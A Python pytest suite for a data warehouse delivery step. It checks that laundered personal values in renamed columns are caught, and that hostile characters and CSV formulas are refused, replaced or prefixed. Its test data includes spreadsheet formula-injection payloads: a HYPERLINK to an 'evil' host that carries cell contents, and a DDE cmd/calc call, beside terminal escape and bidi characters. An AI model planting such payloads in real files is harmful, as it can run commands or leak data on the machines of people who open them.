"""What a file holds decides, not what its columns are called: laundered values, hostile characters, formulas."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path
from typing import Any, Final

import psycopg
import pyarrow.parquet
import pytest

from tests.python.conftest import FreshDatabases
from tests.python.deliver.delivering import World
from tests.python.deliver.world import OCTOBER, column, write_contract
from warehouse.core import hostile
from warehouse.core.contracts import load_contract
from warehouse.core.errors import CheckFailed
from warehouse.deliver import State
from warehouse.deliver.hostile_text import harmless
from warehouse.deliver.known_values import Sensitive

NOVEMBER: Final = date(2026, 11, 2)

# People as the replica has them, of the same TRNs as the rows of the extract.
_PEOPLE = """
create table public.persons (
    trn text, last_name text, date_of_birth date, email_address text, national_insurance_number text
);
insert into public.persons
select
    lpad(i::text, 7, '0'), 'Zzname' || i % 40, date '1960-01-01' + i * 37, 'zz' || i || '@example.org',
    'QQ' || lpad((i * 7919 % 1000000)::text, 6, '0') || 'A'
from generate_series(1, 200) as i;
"""


@pytest.fixture
def world(tmp_path: Path, prepared: FreshDatabases) -> World:
    made = World(tmp_path, prepared.warehouse_conninfo)
    made.contract()
    with psycopg.connect(made.conninfo, autocommit=True) as connection:
        connection.execute(_PEOPLE.encode())
    return made


def renamed(
    world: World, name: str, expression: str, physical: str = "text", class_: str = "open", **more: Any
) -> None:
    """The extract gains a column of what an expression gives of each person, under a name that says nothing."""
    given = world.contract(**more)
    given["schema"][0]["properties"].append(column(name, "date" if physical == "date" else "string", physical, class_))
    write_contract(world.exports, given)
    with world.building() as connection:
        connection.execute(f"alter table extracts.dandi_teachers add {name} {physical}".encode())
        connection.execute(
            f"update extracts.dandi_teachers as e set {name} = {expression}"
            " from public.persons as p where p.trn = e.trn".encode()
        )


def test_sensitive_columns_are_looked_up_once_for_all_files_of_a_run(world: World) -> None:
    with psycopg.connect(world.conninfo, autocommit=True) as connection:
        sensitive = Sensitive()
        places = sensitive.places(connection)
        (people,) = [place for place in places if place.table == "persons"]
        own = sensitive.own(connection, people)
        # Many have the same last name: it says nothing by itself.
        assert sorted(own) == ["date_of_birth", "email_address", "national_insurance_number"]
        connection.execute("drop table public.persons")
        assert (sensitive.places(connection), sensitive.own(connection, people)) == (places, own)
        assert people not in Sensitive().places(connection)


def test_the_report_of_a_number_and_a_date_under_other_names(world: World, capfd: pytest.CaptureFixture[str]) -> None:
    """`payroll_reference` and `cohort_code`, both open: refused, put aside, and nothing told of a value."""
    renamed(world, "payroll_reference", "p.national_insurance_number")
    given = world.contract()
    given["schema"][0]["properties"] += [
        column("payroll_reference", "string", "text"),
        column("cohort_code", "string", "text"),
    ]
    write_contract(world.exports, given)
    with world.building() as connection:
        connection.execute("alter table extracts.dandi_teachers add cohort_code text")
        connection.execute(
            "update extracts.dandi_teachers as e set cohort_code = p.date_of_birth::text"
            " from public.persons as p where p.trn = e.trn"
        )
    with pytest.raises(CheckFailed) as caught:
        world.run()
    what = caught.value.what
    assert caught.value.exit_code == 31
    assert "column payroll_reference looks like National Insurance numbers: 200 values" in what
    assert "column payroll_reference holds values of public.persons.national_insurance_number: 200 values" in what
    assert "column cohort_code reads as dates, such as dates of birth: 200 values" in what
    assert "column cohort_code holds values of public.persons.date_of_birth: 200 values" in what
    ledger = json.dumps(world.query("select error from ledger.deliveries"), default=str)
    for text in (json.dumps(caught.value.as_dict()), ledger, *capfd.readouterr()):
        assert "QQ0" not in text and "1960" not in text and "19600" not in text
    assert world.state() == "failed" and not list(world.place.rglob("*"))
    there = [path for path in (world.home / "home" / "outbox").rglob("*") if path.is_file()]
    aside, report = sorted(there, key=lambda path: path.suffix == ".txt")
    told = report.read_text()
    assert "payroll_reference looks like" in told and "QQ0" not in told and "1960" not in told
    assert aside.parts[-5:-1] == (".quarantine", "dandi", "teachers", "2026-09")
    assert aside.stat().st_mode & 0o077 == 0 and aside.parent.stat().st_mode & 0o077 == 0
    # The next attempt, with the columns gone, takes it away again.
    world.contract()
    assert world.run()[0].state is State.CLOSED
    assert not [path for path in (world.home / "home" / "outbox").rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    ("expression", "physical", "class_", "rule"),
    [
        ("lower(p.national_insurance_number)", "text", "personal", "looks like National Insurance numbers"),
        ("'paid to ' || p.national_insurance_number || ' in May'", "text", "open", "looks like National Insurance"),
        ("substr(p.national_insurance_number, 1, 8)", "text", "open", None),
        ("p.email_address", "text", "personal", "looks like e-mail addresses"),
        ("upper(p.last_name)", "text", "open", "holds values of public.persons.last_name"),
        ("p.date_of_birth", "date", "personal", "holds values of public.persons.date_of_birth"),
        ("to_char(p.date_of_birth, 'DD/MM/YYYY')", "text", "open", "reads as dates"),
        ("to_char(p.date_of_birth, 'YYYYMMDD')", "text", "open", "reads as dates"),
        ("p.trn", "text", "open", "looks like TRNs"),
        ("p.trn", "text", "personal", None),
        ("'group ' || p.trn::int % 30", "text", "open", None),
        ("p.last_name", "text", "sensitive", None),
    ],
)
def test_what_a_column_holds_and_what_its_class_says(
    world: World, expression: str, physical: str, class_: str, rule: str | None
) -> None:
    renamed(world, "day_group" if physical == "date" else "group_code", expression, physical, class_)
    if rule is None:
        assert world.run()[0].state is State.CLOSED
        return
    with pytest.raises(CheckFailed) as caught:
        world.run()
    assert rule in caught.value.what


def test_values_without_a_persons_key_beside_them(world: World) -> None:
    """By value alone: a column in which nearly every row has its own, such as an account's subject."""
    with psycopg.connect(world.conninfo, autocommit=True) as connection:
        connection.execute("create table public.one_login_users (subject text)")
        connection.execute("insert into public.one_login_users select 'urn:fdc:' || i from generate_series(1, 90) i")
    given = world.contract(sortKey=["reference"])
    given["schema"][0]["properties"] = [
        column("reference", "string", "text", primaryKey=True),
    ]
    write_contract(world.exports, given)
    with world.building() as connection:
        connection.execute("alter table extracts.dandi_teachers add reference text")
        connection.execute("update extracts.dandi_teachers set reference = 'URN:FDC:' || urn")
        connection.execute("delete from extracts.dandi_teachers where urn > 90")
    with pytest.raises(CheckFailed, match=r"column reference holds values of public\.one_login_users\.subject"):
        world.run()


def test_dates_in_a_column_that_says_nothing_of_dates(world: World) -> None:
    with psycopg.connect(world.conninfo, autocommit=True) as connection:
        connection.execute("drop table public.persons")
    given = world.contract()
    given["schema"][0]["properties"].append(column("cohort", "date", "date"))
    write_contract(world.exports, given)
    with world.building() as connection:
        connection.execute("alter table extracts.dandi_teachers add cohort date")
        connection.execute("update extracts.dandi_teachers set cohort = born")
    with pytest.raises(CheckFailed, match="column cohort has dates, of which neither its name nor its description"):
        world.run()


def test_a_dated_reason_lets_through_what_only_looks_so(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from warehouse.core.class_floors import Lowered
    from warehouse.deliver import probe

    renamed(world, "helpdesk", "'help' || p.trn || '@example.org'")
    with pytest.raises(CheckFailed, match="looks like e-mail addresses"):
        world.run()
    why = Lowered(
        "dandi_teachers", "helpdesk", "sensitive", "open", "of schools", "data protection officer", OCTOBER, None
    )
    monkeypatch.setattr(probe.class_floors, "reasons", lambda *_: [why])
    assert world.run()[0].state is State.CLOSED


# ---- hostile characters and formulas

_NASTY: Final = (
    "=HYPERLINK(\"http://evil\"&A1)", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-1+1", "\t=1", "\r=1",
    "a\x1b]0;title\x07b", "x\x9b2J", "Ann\u202eaM", "Z\u200bo\ufeffe", "two\nlines", "O'Neill", "Ó Sé", "",
)  # fmt: skip


def with_names(world: World, names: Sequence[str], **custom: Any) -> None:
    given = world.contract(**custom)
    given["schema"][0]["properties"][1].pop("logicalTypeOptions", None)
    write_contract(world.exports, given)
    with world.building() as connection:
        connection.execute("update extracts.dandi_teachers set last_name = null")
        for number, name in enumerate(names, 1):
            connection.execute("update extracts.dandi_teachers set last_name = %s where urn = %s", (name, number))


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_a_hostile_character_is_refused_where_the_contract_says_so(kind: str, world: World) -> None:
    with_names(world, _NASTY, kind=kind, controlCharacters="refuse")
    with pytest.raises(CheckFailed, match="last_name has control, bidi or invisible characters: 7 values") as caught:
        world.run()
    assert "\x1b" not in str(caught.value.as_dict()) and "evil" not in str(caught.value.as_dict())


def _csv(path: Path) -> list[str | None]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [row[1] for row in csv.reader(handle)][1:]


def _parquet(path: Path) -> list[str | None]:
    names: list[str | None] = pyarrow.parquet.read_table(path)["last_name"].to_pylist()
    return names


@pytest.mark.parametrize(("kind", "read"), [("csv", _csv), ("parquet", _parquet)])
def test_a_hostile_character_is_replaced_and_counted(
    kind: str, read: Callable[[Path], list[str | None]], world: World
) -> None:
    with_names(world, _NASTY, kind=kind, controlCharacters="replace")
    assert world.run()[0].state is State.CLOSED
    (file,) = world.place.rglob(f"*.{kind}")
    names = read(file)[: len(_NASTY)]
    assert names[6:11] == ["a\ufffd]0;title\ufffdb", "x\ufffd2J", "Ann\ufffdaM", "Z\ufffdo\ufffde", "two\ufffdlines"]
    assert names[11:] == ["O'Neill", "Ó Sé", ""] and names[4:6] == ["\ufffd=1", "\ufffd=1"]
    text = json.loads((file.parent / "datapackage.json").read_text(encoding="utf-8"))["resources"][0]["text"]
    assert (text["controlCharacters"], text["replacedCharacters"]) == ("replace", 9)
    assert ("formulas" in text) == (kind == "csv")


@pytest.mark.parametrize(("rule", "first"), [("leave", "=HYPER"), ("prefix", "'=HYPER")])
def test_formulas_of_a_csv_file_are_counted_and_prefixed_as_the_contract_says(
    rule: str, first: str, world: World
) -> None:
    with_names(world, _NASTY[:4] + _NASTY[11:], kind="csv", formulaCharacters=rule)
    assert world.run()[0].state is State.CLOSED
    (file,) = world.place.rglob("*.csv")
    names = _csv(file)
    assert str(names[0]).startswith(first)
    assert names[4:7] == ["O'Neill", "Ó Sé", ""], "a name with an apostrophe stays as it is"
    assert all(str(name).startswith("'") == (rule == "prefix") for name in names[:4])
    text = json.loads((file.parent / "datapackage.json").read_text(encoding="utf-8"))["resources"][0]["text"]
    assert (text["formulaCharacters"], text["formulas"]) == (rule, 4)
    kept = world.query("select formulas, replaced from ledger.delivery_files where kind = 'data'")
    assert kept == [(4, 0)]


def test_a_contract_cannot_ask_for_another_rule(world: World) -> None:
    from warehouse.core.errors import ContractError

    for custom, wrong in (
        ({"controlCharacters": "keep"}, "must be refuse or replace"),
        ({"formulaCharacters": "run"}, "must be leave or prefix"),
        ({"kind": "parquet", "formulaCharacters": "prefix"}, "is for CSV alone"),
    ):
        with pytest.raises(ContractError, match=wrong):
            load_contract(write_contract(world.exports, world.contract(**custom)))


def test_rows_are_cleaned_without_their_ends() -> None:
    rows = [b'1,"a\nb"\n', b"2,plain\n", "3,\u202ex\x00\n".encode()]
    cleaned, found = harmless(rows)
    assert list(cleaned) == ['1,"a\ufffdb"\n'.encode(), b"2,plain\n", "3,\ufffdx\ufffd\n".encode()]
    assert found == 3
    # A line feed is hostile within a row, also where nothing else of the rows is.
    assert harmless([b'1,"a\nb"\n', b"2,plain\n"]) == (['1,"a\ufffdb"\n'.encode(), b"2,plain\n"], 1)
    untouched = [b"1,a\n", "2,Ó\n".encode()]
    assert harmless(untouched) == (untouched, 0)


def test_every_hostile_character_is_found_among_those_of_its_planes() -> None:
    """Each character in a row of its own, between letters of two bytes: found as the list of core/hostile.py has it."""
    points = [*range(0x10000), *range(0x1F000, 0x1F100), *range(0xE0000, 0xE1000), *range(0x10FF00, 0x110000)]
    characters = [chr(point) for point in points if not 0xD800 <= point <= 0xDFFF and chr(point) != "\n"]
    assert {point for runs in hostile.KINDS.values() for a, b in runs for point in range(a, b + 1)} <= set(points)
    rows = [f"é{character}Я\n".encode() for character in characters]
    cleaned, found = harmless(rows)
    expected = [hostile.ANY.sub("\ufffd", character) for character in characters]
    assert [row.decode()[1:-2] for row in cleaned] == expected
    assert found == sum(after != before for after, before in zip(expected, characters, strict=True)) > 200
